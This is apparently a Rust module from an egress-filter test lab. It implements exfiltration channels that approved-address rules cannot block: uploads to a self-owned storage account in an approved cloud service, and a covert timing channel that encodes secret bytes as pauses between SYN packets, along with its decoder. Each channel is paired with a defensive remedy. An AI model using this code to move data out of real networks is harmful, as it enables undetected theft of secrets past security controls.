//! What an approved place is told, which the filter is there to let through.

use std::{cell::Cell, io, thread, time::Duration};

use crate::lab::{
    battery::{
        Aim, Channel,
        collector::arrival,
        field::Field,
        frame::{Packet, SYN, TCP},
        ledger::{Found, Pieces},
    },
    channels::plain,
    probe::Family,
};

/// Bytes that are told by pauses: to tell all of the secret would take half an hour.
const SAMPLE: usize = 8;
/// How often, for a busy machine makes pauses of its own.
const TIMES: usize = 3;
/// Of the two steps of each bit one takes so long, the first one of a one. Which of them is
/// longer can be told whatever else takes its time.
const PAUSE: Duration = Duration::from_millis(5);
/// The first half of each sequence number; the second counts steps.
const OURS: u16 = 0x7469;
const PORT: u16 = 40_011;

pub(super) const CHANNELS: &[Channel] = &[
    Channel {
        name: "approved-account",
        how: "an ordinary connection to an approved address, where anybody can rent room",
        seen_in: "rclone, azcopy, aws s3 cp: a storage account of one's own in an approved service",
        aim: Aim::OutOfScope {
            why: "the policy approves the address for everybody behind it; whose account it is \
                  is said inside TLS",
            remedy: "private endpoints, service endpoint policies, and rules as narrow as \
                     possible: one name instead of a tag or a wildcard",
        },
        carry: |field, pieces| {
            let (address, knock) = field.side(Family::V4)?.approved()?;
            plain::tcp(address, knock.port().unwrap_or(443), pieces)
        },
        read: None,
    },
    Channel {
        name: "timing",
        how: "pauses between segments that may pass; eight bytes, as a sample",
        seen_in: "Cabuk et al. 2004, IP Covert Timing Channels",
        aim: Aim::OutOfScope {
            why: "when something permitted is sent is the sender's choice; some hundred bits a \
                  second that nobody can tell from work",
            remedy: "rules as narrow as possible, so that who could listen is somebody you trust",
        },
        carry: pauses,
        read: Some(read),
    },
];

/// A segment, then two for each bit, with a pause before one of them.
fn pauses(field: &Field, pieces: &Pieces) -> io::Result<()> {
    let side = field.side(Family::V4)?;
    let (to, knock) = side.approved()?;
    let ends = ((side.local, PORT), (to, knock.port().unwrap_or(443)));
    let wire = field.wire()?;
    let tick = |number: u16| {
        let sequence = u32::from(OURS) << 16 | u32::from(number);
        wire.send(&field.frame(&Packet::tcp(ends.0, ends.1, (sequence, 0), SYN, &[])))
    };
    for _ in 0..TIMES {
        tick(0)?;
        let bytes = pieces.parts(1).take(SAMPLE).flat_map(|(_, byte)| byte);
        let bits = bytes.flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1 == 1));
        for (number, pauses) in (1..).zip(bits.flat_map(|bit| [bit, !bit])) {
            if pauses {
                thread::sleep(PAUSE);
            }
            tick(number)?;
        }
    }
    Ok(())
}

/// What the segments so far have told.
#[derive(Clone, Copy, Default)]
struct Heard {
    /// When the last one came, and which it was.
    at: Duration,
    number: u16,
    /// How long the first step of this bit took.
    first: Duration,
    /// Of this byte.
    bits: u8,
}

thread_local! {
    /// Of the sink that this thread listens for.
    static HEARD: Cell<Heard> = Cell::default();
}

fn read(frame: &[u8]) -> Option<Found> {
    let packet = frame.get(14..14 + 40)?;
    let ours = packet[0] == 0x45
        && packet[9] == TCP
        && packet[20..22] == PORT.to_be_bytes()
        && packet[24..26] == OURS.to_be_bytes()
        // The kernel refuses what comes back, with the next number.
        && packet[33] == SYN;
    if !ours {
        return None;
    }
    let now = arrival();
    let number = u16::from_be_bytes([packet[26], packet[27]]);
    let mut heard = HEARD.get();
    let step = now.saturating_sub(heard.at);
    if number != heard.number + 1 {
        heard = Heard::default();
    } else if number % 2 == 1 {
        heard.first = step;
    } else {
        heard.bits = heard.bits << 1 | u8::from(heard.first > step);
    }
    (heard.at, heard.number) = (now, number);
    HEARD.set(heard);
    (number > 0 && number.is_multiple_of(16)).then(|| Found::Part {
        offset: usize::from(number / 16 - 1),
        bytes: vec![heard.bits],
    })
}
